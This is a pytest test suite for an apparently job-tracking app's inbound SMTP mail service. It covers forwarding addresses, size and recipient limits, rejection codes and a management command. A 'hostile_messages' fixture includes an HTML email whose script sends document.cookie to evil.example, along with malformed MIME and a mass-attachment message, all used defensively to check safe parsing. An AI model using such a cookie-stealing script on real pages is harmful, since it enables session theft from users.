"""Rebound's inbound SMTP service, over real SMTP: a service of the test's own on a free port."""

import email.policy
import io
import os
import signal
import smtplib
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.urls import reverse

from mailin.models import ForwardingAddress, InboundMessage
from mailin.services import sources
from mailin.services.messages import inbound_message_store
from mailin.smtpd import controller
from tests.factories import ApplicationFactory, CompanyFactory

from .dovecot import free_port

LIMIT = 1024 * 1024
ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Service:
    host: str
    port: int

    def send(self, to: str | list[str], raw: bytes, sender: str = "alice@example.com") -> dict:
        with smtplib.SMTP(self.host, self.port, timeout=20) as smtp:
            return smtp.sendmail(sender, to, raw)


@pytest.fixture
def inbound_smtpd(transactional_db, settings) -> Iterator[Service]:
    """mail_smtpd's service, in a thread of this process, on a free port."""
    settings.MAILIN_DOMAIN = "in.rebound.test"
    settings.MAILIN_MAX_BYTES = LIMIT
    service = Service(host="127.0.0.1", port=free_port())
    running = controller(host=service.host, port=service.port)
    running.start()
    try:
        yield service
    finally:
        running.stop()


def rejection(n: int = 1, *, company: str = "Northwind Labs", role: str = "Data Analyst") -> bytes:
    domain = company.lower().replace(" ", "") + ".com"
    return (
        f"From: Talent Team <jobs@{domain}>\r\nTo: alice@example.com\r\n"
        f"Subject: Your application for {role}\r\nMessage-ID: <smtp-{n}@{domain}>\r\n"
        "Date: Thu, 03 Dec 2026 09:15:00 +0000\r\n\r\n"
        f"Dear Alice,\r\n\r\nThank you for applying for the {role} position at {company}. "
        "After careful consideration we have decided to move forward with other candidates.\r\n"
    ).encode()


def forwarded(original: bytes) -> bytes:
    """What Gmail sends when alice forwards a message with a rule."""
    head, _, body = original.decode().partition("\r\n\r\n")
    fields = dict(line.split(": ", 1) for line in head.split("\r\n"))
    return (
        "From: Alice <alice@example.com>\r\nTo: in@example\r\n"
        f"Subject: Fwd: {fields['Subject']}\r\nMessage-ID: <fwd-{fields['Message-ID'][1:]}\r\n"
        "Date: Thu, 03 Dec 2026 10:00:00 +0000\r\n\r\n"
        "---------- Forwarded message ---------\r\n"
        f"From: {fields['From']}\r\nDate: Thu, 3 Dec 2026 at 09:15\r\n"
        f"Subject: {fields['Subject']}\r\nTo: alice@example.com\r\n\r\n{body}"
    ).encode()


@pytest.fixture
def northwind(alice):
    company = CompanyFactory(
        owner=alice, name="Northwind Labs", website="https://northwindlabs.com"
    )
    return ApplicationFactory(owner=alice, company=company, role="Data Analyst")


def refused_code(error: smtplib.SMTPRecipientsRefused) -> int:
    return next(iter(error.recipients.values()))[0]


def test_a_message_to_a_live_address_becomes_its_owners_suggestion(inbound_smtpd, alice, northwind):
    address = sources.forwarding_address_create(user=alice).address
    assert address.startswith("in-") and address.endswith("@in.rebound.test")

    assert inbound_smtpd.send(address, forwarded(rejection())) == {}

    message = InboundMessage.objects.get()
    assert (message.owner, message.source, message.application) == (alice, "forward", northwind)
    assert message.suggestion.action == "mark_rejected"
    assert message.suggestion.text.startswith("Northwind Labs said no to Data Analyst on 3 Dec")


def test_the_address_is_read_whatever_its_case(inbound_smtpd, alice):
    address = sources.forwarding_address_create(user=alice).address
    inbound_smtpd.send(address.upper(), rejection())
    assert InboundMessage.objects.filter(owner=alice).count() == 1


def test_unknown_revoked_and_foreign_addresses_are_refused_with_550(inbound_smtpd, alice):
    old = sources.forwarding_address_create(user=alice).address
    new = sources.forwarding_address_create(user=alice).address
    for address in (old, "in-0123456789abcdef01234567@in.rebound.test", "postmaster@example.org"):
        with pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
            inbound_smtpd.send(address, rejection())
        assert refused_code(refused.value) == 550
    inbound_smtpd.send(new, rejection())
    assert InboundMessage.objects.count() == 1


def test_the_size_limit_is_announced_and_enforced_with_552(inbound_smtpd, alice):
    address = sources.forwarding_address_create(user=alice).address
    big = rejection() + (b"x" * 76 + b"\r\n") * (LIMIT // 78 + 10)
    with smtplib.SMTP(inbound_smtpd.host, inbound_smtpd.port, timeout=20) as smtp:
        smtp.ehlo()
        assert smtp.esmtp_features["size"] == str(LIMIT)
        # A client that says the size up front is refused before sending it...
        with pytest.raises(smtplib.SMTPSenderRefused) as refused:
            smtp.sendmail("a@example.com", address, big)
        assert refused.value.smtp_code == 552
    with smtplib.SMTP(inbound_smtpd.host, inbound_smtpd.port, timeout=20) as smtp:
        # ... and one that doesn't, once it has sent too much.
        smtp.ehlo()
        assert smtp.mail("a@example.com")[0] == 250
        assert smtp.rcpt(address)[0] == 250
        assert smtp.data(big)[0] == 552
    assert not InboundMessage.objects.exists()


def test_recipients_per_message_are_capped(inbound_smtpd, alice, settings):
    settings.MAILIN_MAX_RECIPIENTS = 3
    address = sources.forwarding_address_create(user=alice).address
    with smtplib.SMTP(inbound_smtpd.host, inbound_smtpd.port, timeout=20) as smtp:
        smtp.ehlo()
        smtp.mail("a@example.com")
        codes = [smtp.rcpt(address)[0] for _ in range(4)]
    assert codes == [250, 250, 250, 452]


def hostile_messages() -> dict[str, bytes]:
    many = EmailMessage()
    many["From"] = "jobs@northwindlabs.com"
    many["Subject"] = "Your application for Data Analyst"
    many["Message-ID"] = "<many@northwindlabs.com>"
    many.set_content("We have decided to move forward with other candidates.")
    for n in range(1000):
        many.add_attachment(b"%d" % n, maintype="application", subtype="octet-stream")
    return {
        "malformed MIME": (
            b"From: x@example.com\r\nSubject: broken\r\nMessage-ID: <broken@example.com>\r\n"
            b'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
            b"--never-closed\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n--never-cl"
        ),
        "a thousand attachments": many.as_bytes(policy=email.policy.SMTP),
        "HTML with scripts": (
            b"From: jobs@northwindlabs.com\r\nSubject: Data Analyst<script>alert(1)</script>\r\n"
            b"Message-ID: <html@northwindlabs.com>\r\nContent-Type: text/html\r\n\r\n"
            b"<html><script>document.location='https://evil.example/'+document.cookie</script>"
            b"<img src='https://tracker.example/p.gif'><p>We have decided to move forward with "
            b"other candidates.</p></html>"
        ),
    }


@pytest.mark.parametrize("kind", list(hostile_messages()))
def test_hostile_mail_is_read_safely_and_the_service_keeps_running(inbound_smtpd, alice, kind):
    address = sources.forwarding_address_create(user=alice).address
    try:
        inbound_smtpd.send(address, hostile_messages()[kind])
    except smtplib.SMTPDataError as refused:
        # Refused in words (a line too long, too big), never dropped silently.
        assert refused.smtp_code in (500, 550, 552, 554)
    for message in InboundMessage.objects.all():
        # The subject is kept as the text it is (pages escape it); nothing of the body's script
        # or its remote content is read as the company, the role or the question.
        read = " ".join([message.company, message.role, message.suggestion.text]).lower()
        assert "<script" not in read and "alert(" not in read
        assert "evil.example" not in read + message.subject
        assert "tracker.example" not in read + message.subject

    inbound_smtpd.send(address, rejection(99))
    assert InboundMessage.objects.filter(message_id="smtp-99@northwindlabs.com").exists()


def test_the_pipe_command_keeps_a_message_for_a_live_address(alice, monkeypatch, northwind, capsys):
    address = sources.forwarding_address_create(user=alice).address
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(rejection(5))))
    call_command("mail_ingest_pipe", address)
    message = InboundMessage.objects.get()
    assert (message.owner, message.source, message.application) == (alice, "forward", northwind)
    assert f"kept as message {message.pk}" in capsys.readouterr().out


def test_the_pipe_command_bounces_an_unknown_address(db, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(rejection(6))))
    with pytest.raises(SystemExit) as exited:
        call_command("mail_ingest_pipe", "in-nobody@in.localhost")
    assert exited.value.code == 67  # EX_NOUSER: the MTA bounces it
    assert not InboundMessage.objects.exists()


# --- the page -----------------------------------------------------------------------------


def test_the_page_gives_an_address_and_a_new_one_replaces_it(alice_client, alice, settings):
    settings.MAILIN_DOMAIN = "in.rebound.test"
    page = alice_client.get(reverse("mailin:ways_in")).content.decode()
    assert "Get a forwarding address" in page

    alice_client.post(reverse("mailin:address_new"))
    first = ForwardingAddress.objects.get(owner=alice, revoked_at__isnull=True)
    page = alice_client.get(reverse("mailin:ways_in")).content.decode()
    assert f'value="{first.local_part}@in.rebound.test"' in page
    assert "How to forward automatically" in page

    response = alice_client.post(reverse("mailin:address_new"), follow=True)
    assert "Mail to the old one is refused from now on." in response.content.decode()
    second = ForwardingAddress.objects.get(owner=alice, revoked_at__isnull=True)
    assert second.local_part != first.local_part
    assert sources.forwarding_address_owner(recipient=first.address) is None
    assert sources.forwarding_address_owner(recipient=second.address) == alice


def test_removing_the_address_forgets_everything_it_brought(alice_client, alice):
    address = sources.forwarding_address_create(user=alice).address
    sources.forwarded_message_store(recipient=address, raw=rejection(1))
    sources.forwarded_message_store(recipient=address, raw=rejection(2))
    pasted, _, _ = inbound_message_store(user=alice, raw=rejection(3), source="paste")

    response = alice_client.post(reverse("mailin:address_remove"), follow=True)
    assert "The 2 messages it brought are forgotten." in response.content.decode()
    assert list(InboundMessage.objects.filter(owner=alice)) == [pasted]
    assert sources.forwarding_address_owner(recipient=address) is None
    assert "Get a forwarding address" in response.content.decode()


def test_another_users_address_is_never_shown(alice_client, bob):
    address = sources.forwarding_address_create(user=bob).address
    assert address not in alice_client.get(reverse("mailin:ways_in")).content.decode()
    alice_client.post(reverse("mailin:address_remove"))
    assert sources.forwarding_address_owner(recipient=address) == bob


def test_mail_smtpd_is_a_process_of_its_own_that_keeps_mail_and_stops_cleanly(
    transactional_db, alice, northwind
):
    """`python manage.py mail_smtpd`, as the Procfile and compose start it."""
    db = connection.settings_dict
    port = free_port()
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "rebound.settings",
        "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
        "CACHE_URL": "",
        "DEBUG": "1",
        "MAILIN_DOMAIN": "in.rebound.test",
    }
    with override_settings(MAILIN_DOMAIN="in.rebound.test"):
        address = sources.forwarding_address_create(user=alice).address
    process = subprocess.Popen(
        [sys.executable, "manage.py", "mail_smtpd", "--port", str(port)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        assert "Receiving mail for *@in.rebound.test" in (
            process.stdout.readline() if process.stdout else ""
        )
        Service("127.0.0.1", port).send(address, forwarded(rejection(7)))
        with pytest.raises(smtplib.SMTPRecipientsRefused):
            Service("127.0.0.1", port).send("in-nobody@in.rebound.test", rejection(8))
    finally:
        process.send_signal(signal.SIGTERM)
        output, _ = process.communicate(timeout=20)
    assert process.returncode == 0, output
    assert "Mail service stopped" in output
    message = InboundMessage.objects.get()
    assert (message.owner, message.application, message.source) == (alice, northwind, "forward")


def test_a_thousand_attachments_are_read_as_the_message_they_carry(inbound_smtpd, alice, northwind):
    address = sources.forwarding_address_create(user=alice).address
    inbound_smtpd.send(address, hostile_messages()["a thousand attachments"])
    message = InboundMessage.objects.get()
    assert (message.label, message.application) == ("rejection", northwind)
